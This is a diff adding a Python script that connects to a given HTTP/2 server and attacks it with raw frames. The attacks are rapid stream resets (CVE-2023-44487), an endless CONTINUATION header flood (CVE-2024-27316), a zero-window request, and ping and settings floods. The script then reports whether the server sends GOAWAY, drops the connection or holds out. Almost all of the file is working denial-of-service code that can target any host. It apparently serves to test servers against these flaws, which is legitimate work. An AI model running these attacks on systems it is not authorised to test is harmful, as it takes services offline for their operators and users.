@@ -1,0 +1,116 @@
+"""Attacks a server over plain HTTP/2 (RFC 9113), with nothing but frames, and tells how it ends.
+
+    h2_attack.py KIND HOST PORT PATH      prints `goaway CODE SECONDS`, `closed SECONDS` or `endures SECONDS`
+
+KIND is one of
+  reset          requests that are reset at once (CVE-2023-44487)
+  continuation   a head that never ends (CVE-2024-27316)
+  window         a request whose answer is never given any room
+  ping           pings that are never waited for, without a request
+  settings       settings that change without end, without a request
+"""
+
+import socket
+import struct
+import sys
+import time
+
+PATIENCE = 30.0
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
+ACK, END_STREAM, END_HEADERS = 1, 1, 4
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def head(path):
+    """:method GET, :scheme http, :path and :authority, by the static table and as literals (RFC 7541)."""
+    literal = lambda index, text: bytes([index, len(text)]) + text.encode()
+    return b"\x82\x86" + literal(0x04, path) + literal(0x01, "attacked")
+
+
+def begin(host, port, window):
+    connection = socket.create_connection((host, port), timeout=PATIENCE)
+    settings = struct.pack(">HI", 4, window)
+    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
+    return connection
+
+
+def attack(kind, path):
+    """The frames to send, in blocks, for ever or until there is nothing more to do but to wait."""
+    if kind == "reset":
+        for stream in range(1, 2**31, 2):
+            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path)) + frame(
+                RST_STREAM, 0, stream, struct.pack(">I", 8)
+            )
+    elif kind == "continuation":
+        yield frame(HEADERS, END_STREAM, 1, head(path))
+        while True:
+            yield frame(CONTINUATION, 0, 1, b"\x00\x01a" + b"\x7f\x81\x7e" + b"a" * 16381)
+    elif kind == "window":
+        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, head(path))
+    elif kind == "ping":
+        while True:
+            yield frame(PING, 0, 0, b"attacked") * 100
+    elif kind == "settings":
+        while True:
+            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100
+    else:
+        sys.exit(__doc__)
+
+
+def frames(buffer):
+    """The whole frames in a buffer, which keeps the rest."""
+    while len(buffer) >= 9:
+        length = int.from_bytes(buffer[:3], "big")
+        if len(buffer) < 9 + length:
+            return
+        yield buffer[3], buffer[4], bytes(buffer[9 : 9 + length])
+        del buffer[: 9 + length]
+
+
+def read(connection, buffer):
+    """What the server says; pings are answered, so that it knows that somebody is there. A code, if it says goodbye."""
+    connection.settimeout(0.01)
+    try:
+        chunk = connection.recv(1 << 16)
+    except TimeoutError:
+        return None
+    if not chunk:
+        raise ConnectionResetError
+    buffer += chunk
+    for kind, flags, payload in frames(buffer):
+        if kind == GOAWAY and int.from_bytes(payload[4:8], "big") != 0:
+            return int.from_bytes(payload[4:8], "big")
+        if kind == PING and not flags & ACK:
+            connection.sendall(frame(PING, ACK, 0, payload))
+        if kind == SETTINGS and not flags & ACK:
+            connection.sendall(frame(SETTINGS, ACK, 0))
+    return None
+
+
+def main(kind, host, port, path):
+    started = time.monotonic()
+    spent = lambda: f"{time.monotonic() - started:.1f}"
+    connection, buffer = begin(host, int(port), 0 if kind == "window" else 65535), bytearray()
+    blocks = attack(kind, path)
+    try:
+        while time.monotonic() - started < PATIENCE:
+            connection.settimeout(0.2)
+            try:
+                connection.sendall(next(blocks, b""))
+            except TimeoutError:
+                pass
+            code = read(connection, buffer)
+            if code is not None:
+                return f"goaway {code} {spent()}"
+    except OSError:
+        return f"closed {spent()}"
+    return f"endures {spent()}"
+
+
+if __name__ == "__main__":
+    if len(sys.argv) != 5:
+        sys.exit(__doc__)
+    print(main(*sys.argv[1:]))
